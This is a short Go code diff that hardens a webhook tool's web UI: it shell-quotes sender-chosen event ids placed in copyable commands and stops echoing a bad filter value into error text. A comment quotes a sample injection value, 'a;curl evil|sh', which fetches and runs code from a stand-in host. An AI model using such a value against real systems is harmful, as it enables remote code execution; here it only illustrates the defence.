@@ -139,7 +139,21 @@ func parsePages() (*template.Template, error) {
 		"count": func(s *ferry.SourceStats, st string) int { return s.States[ferry.State(st)] },
 		"took":  func(a *ferry.Attempt) string { return took(a.FinishedAt.Sub(a.StartedAt)) },
 		"next":  nextAttempt,
+		"shell": shellArg,
 	}).ParseFS(uiFS, "ui/*.html")
+}
+
+// shellArg quotes s as one POSIX shell word, for a command an operator
+// copies from a page: an event id is the sender's to choose (GitHub's and
+// Shopify's are unsigned headers), and "a;curl evil|sh" must stay an id.
+func shellArg(s string) string {
+	safe := s != "" && strings.IndexFunc(s, func(r rune) bool {
+		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("_-.:/@%+=,", r))
+	}) < 0
+	if safe {
+		return s
+	}
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
 }
 
 // chrome is what every page's frame shows: its title and who is signed in.
@@ -220,7 +234,8 @@ func (f filter) times() (since, until time.Time, err error) {
 			continue
 		}
 		if *t.out, err = time.Parse(filterTime, t.in); err != nil {
-			return since, until, fmt.Errorf("%s %q is not a time like 2026-01-31T09:30 (UTC)", t.key, t.in)
+			// The value is not echoed: a crafted link's words stay off the page.
+			return since, until, fmt.Errorf("%s is not a time like 2026-01-31T09:30 (UTC)", t.key)
 		}
 	}
 	if !since.IsZero() && !until.IsZero() && until.Before(since) {
